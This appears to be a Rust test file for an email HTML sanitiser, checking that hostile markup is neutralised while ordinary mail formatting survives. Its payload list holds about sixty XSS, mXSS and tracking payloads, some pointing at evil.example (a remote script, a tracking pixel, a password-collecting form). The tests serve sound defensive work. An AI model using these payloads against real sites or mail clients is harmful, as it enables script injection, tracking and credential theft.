//! Hostile HTML, shown safely: what is left is parsed again the way a browser parses it, and nothing
//! in it may run, load, submit, cover or break out.
#![expect(clippy::unwrap_used, reason = "tests")]

use tag_check::{Problem, problems};
use throughline_mail::parse::parse;
use throughline_mail::sanitise::sanitise;

/// Payloads from the usual collections, from mail clients' advisories and from bypasses of nested
/// tags, namespaces and broken syntax.
const PAYLOADS: &[&str] = &[
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>script>alert(1)<</script>/script>",
    "<ScRiPt/x src=//evil.example/x.js></sCrIpT >",
    "<img src=x onerror=alert(1)>",
    "<img/src=\"x\"/onerror=alert(1)//",
    "<img src=\"javascript:alert(1)\">",
    "<img src=\"https://evil.example/pixel.gif?who=ana\" width=1 height=1>",
    "<img src=\"//evil.example/pixel.gif\">",
    "<img srcset=\"https://evil.example/a 1x\" src=\"cid:x\">",
    "<img src=\"data:image/svg+xml,<svg onload=alert(1)>\">",
    "<body onload=alert(1) background=\"https://evil.example/x\">hi</body>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math><annotation-xml encoding=\"text/html\"><style></math><img src onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
    "<a href=\" &#14; javascript:alert(1)\">x</a>",
    "<a href=\"JaVaScRiPt&colon;alert(1)\">x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD4=\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<a href=\"/admin/delete?id=1\">x</a>",
    "<a href=\"https://ok.example/\" onclick=alert(1) style=\"position:fixed;inset:0\" target=_top>x</a>",
    "<iframe src=\"https://evil.example\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=\"https://evil.example/x.swf\"></object><embed src=\"//evil.example/x\">",
    "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
    "<base href=\"https://evil.example/\">",
    "<link rel=stylesheet href=\"https://evil.example/x.css\">",
    "<style>body{background:url(https://evil.example)}</style>",
    "<div style=\"background:url(https://evil.example)\">x</div>",
    "<p style=\"width:expression(alert(1))\">x</p>",
    "<form action=\"https://evil.example\"><input name=password><button formaction=\"javascript:alert(1)\">go</button></form>",
    "<video src=\"https://evil.example/v\" poster=\"https://evil.example/p\"><source src=//evil.example></video>",
    "<audio src=\"https://evil.example/a\" onerror=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<table background=\"https://evil.example/x\"><td background=\"https://evil.example/y\">x</table>",
    "<input onfocus=alert(1) autofocus>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<template><img src=x onerror=alert(1)></template>",
    "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\"></xmp>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--[if gte mso 9]><img src=x onerror=alert(1)><![endif]-->",
    "<![CDATA[><img src=x onerror=alert(1)>]]>",
    "<p id=login name=cookie class=modal>dom clobbering</p>",
    "<q cite=\"javascript:alert(1)\">x</q><blockquote cite=\"cid:x\">y</blockquote>",
    "<a href=\"cid:logo\">x</a>",
    "<plaintext><img src=x onerror=alert(1)>",
    "</div></body></html><script>alert(1)</script>",
    "<select><style></select><img src=x onerror=alert(1)>",
    "<isindex action=javascript:alert(1) type=image>",
    "<area shape=default href=\"javascript:alert(1)\"><map name=x></map>",
    "<a href=\"https://evil.example\" ping=\"https://evil.example/ping\">x</a>",
    "<img src=\"cid:x\" longdesc=\"javascript:alert(1)\" usemap=\"#x\" lowsrc=\"https://evil.example\">",
    "<bgsound src=\"javascript:alert(1)\"><layer src=\"https://evil.example\"></layer>",
    "<font color=red face=\"x\" onmouseover=alert(1)>x</font>",
];

#[test]
fn no_payload_keeps_its_sting() {
    assert!(PAYLOADS.len() >= 20);
    let mut failures = Vec::new();
    for payload in PAYLOADS {
        let safe = sanitise(payload);
        for Problem(problem) in problems(&safe) {
            failures.push(format!("{payload}\n  became {safe}\n  which {problem}"));
        }
        assert_eq!(
            letters(&sanitise(&safe)),
            letters(&safe),
            "a second pass finds more in: {payload}"
        );
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

/// Everything in a text but its order: the order of attributes is not fixed.
fn letters(text: &str) -> Vec<char> {
    let mut letters: Vec<_> = text.chars().collect();
    letters.sort_unstable();
    letters
}

#[test]
fn the_check_itself_finds_what_it_looks_for() {
    let stings = [
        "<img src=x onerror=y>",
        "<script>",
        "<a href='javascript:x'>",
        "<p style='x'>",
        "<img src='https://x.y'>",
    ];
    for sting in stings {
        assert!(!problems(sting).is_empty(), "{sting}");
    }
}

#[test]
fn honest_mail_keeps_its_form() {
    let html = "<h1>Hi</h1><p>Order <b>1234</b>, <a href=\"https://shop.example/o\">see</a> &amp; \
                <a href=\"mailto:a@b.c\">write</a></p><table><tbody><tr><td align=\"left\">1</td></tr></tbody></table>\
                <ul><li>x</li></ul><blockquote>quoted</blockquote><img src=\"cid:logo@x\" alt=\"logo\">";
    let rel = "target=\"_blank\" rel=\"noopener noreferrer nofollow\"";
    let safe = sanitise(html);
    assert!(
        safe.contains("<img src=\"cid:logo@x\" alt=\"logo\">"),
        "{safe}"
    );
    assert!(safe.contains("<td align=\"left\">1</td>"), "{safe}");
    assert!(safe.contains("https://shop.example/o"), "{safe}");
    assert_eq!(
        safe.matches("noopener noreferrer nofollow").count(),
        2,
        "{safe} {rel}"
    );
    assert_eq!(safe.matches("_blank").count(), 2);
}

#[test]
fn a_remote_image_becomes_its_description() {
    let safe = sanitise("<img src=\"https://shop.example/p.gif\" alt=\"a picture\">");
    assert_eq!(safe, "<img alt=\"a picture\">");
}

#[test]
fn as_many_open_tags_as_are_rendered_cost_little() {
    let raw = format!(
        "From: ana@example.com\r\nContent-Type: text/html\r\n\r\n{}hello",
        "<div>".repeat(14_999)
    );
    let started = std::time::Instant::now();
    let mail = parse(raw.as_bytes()).unwrap();
    assert!(mail.safe_html.is_some());
    assert!(mail.reply_text.contains("hello"));
    assert!(
        started.elapsed().as_secs() < 20,
        "it took {:?}",
        started.elapsed()
    );
}

#[test]
fn a_hundred_thousand_open_tags_are_read_as_text_only() {
    for tag in [
        "<div>",
        "<b>",
        "<a href=https://x.y>",
        "<table><tr><td>",
        "<svg><g>",
        "<p>",
    ] {
        let body = format!("{}hello", tag.repeat(100_000));
        let raw = format!("From: ana@example.com\r\nContent-Type: text/html\r\n\r\n{body}");
        let mail = parse(raw.as_bytes()).unwrap();
        assert_eq!(mail.safe_html, None, "{tag}");
        assert_eq!(mail.text.trim(), "hello", "{tag}");
    }
}

/// A small reader of tags that shares no code with the sanitiser: after sanitising, text has no `<`
/// of its own, so everything between `<` and `>` outside quotes is a tag.
mod tag_check {
    pub struct Problem(pub String);

    const TAGS: &[&str] = &[
        "a",
        "abbr",
        "acronym",
        "article",
        "aside",
        "b",
        "bdi",
        "bdo",
        "blockquote",
        "br",
        "caption",
        "center",
        "cite",
        "code",
        "col",
        "colgroup",
        "data",
        "dd",
        "del",
        "details",
        "dfn",
        "div",
        "dl",
        "dt",
        "em",
        "figcaption",
        "figure",
        "footer",
        "h1",
        "h2",
        "h3",
        "h4",
        "h5",
        "h6",
        "header",
        "hgroup",
        "hr",
        "i",
        "img",
        "ins",
        "kbd",
        "li",
        "mark",
        "nav",
        "ol",
        "p",
        "pre",
        "q",
        "rp",
        "rt",
        "rtc",
        "ruby",
        "s",
        "samp",
        "small",
        "span",
        "strike",
        "strong",
        "sub",
        "summary",
        "sup",
        "table",
        "tbody",
        "td",
        "th",
        "thead",
        "tfoot",
        "time",
        "tr",
        "tt",
        "u",
        "ul",
        "var",
        "wbr",
    ];

    pub fn problems(html: &str) -> Vec<Problem> {
        let mut found = Vec::new();
        let mut rest = html;
        while let Some(start) = rest.find('<') {
            let Some(tag) = rest.get(start + 1..) else {
                break;
            };
            let end = end_of_tag(tag);
            check_tag(&tag[..end], &mut found);
            rest = &tag[end..];
        }
        found
    }

    fn end_of_tag(tag: &str) -> usize {
        let mut quote = None;
        for (position, c) in tag.char_indices() {
            match (quote, c) {
                (None, '"' | '\'') => quote = Some(c),
                (Some(open), c) if c == open => quote = None,
                (None, '>') => return position,
                _ => {}
            }
        }
        tag.len()
    }

    fn check_tag(tag: &str, found: &mut Vec<Problem>) {
        let tag = tag.trim_start_matches('/');
        let name: String = tag
            .chars()
            .take_while(char::is_ascii_alphanumeric)
            .collect();
        if !TAGS.contains(&name.as_str()) {
            found.push(Problem(format!("has the tag '{name}'")));
        }
        for (key, value) in attributes(&tag[name.len()..]) {
            check_attribute(&key, &value, found);
        }
    }

    fn attributes(text: &str) -> Vec<(String, String)> {
        let mut all = Vec::new();
        let mut rest = text.trim_start();
        while let Some((key, after)) = rest.split_once('=') {
            let after = after.trim_start();
            let (value, next) = match after.chars().next() {
                Some(quote @ ('"' | '\'')) => {
                    after[1..].split_once(quote).unwrap_or((&after[1..], ""))
                }
                _ => after.split_once(' ').unwrap_or((after, "")),
            };
            all.push((key.trim().to_lowercase(), value.to_lowercase()));
            rest = next.trim_start();
        }
        all
    }

    fn check_attribute(key: &str, value: &str, found: &mut Vec<Problem>) {
        const HARMLESS: &[&str] = &[
            "align", "alt", "char", "charoff", "cite", "colspan", "datetime", "dir", "headers",
            "height", "href", "hreflang", "lang", "rel", "rowspan", "scope", "size", "span", "src",
            "start", "summary", "target", "title", "value", "width", "valign", "open",
        ];
        if !HARMLESS.contains(&key) {
            found.push(Problem(format!("has the attribute '{key}'")));
        }
        let schemes: &[&str] = match key {
            "src" => &["cid:"],
            "href" | "cite" => &["http://", "https://", "mailto:", "tel:"],
            _ => return,
        };
        if !schemes.iter().any(|scheme| value.starts_with(scheme)) {
            found.push(Problem(format!("has the address '{value}' in '{key}'")));
        }
    }
}
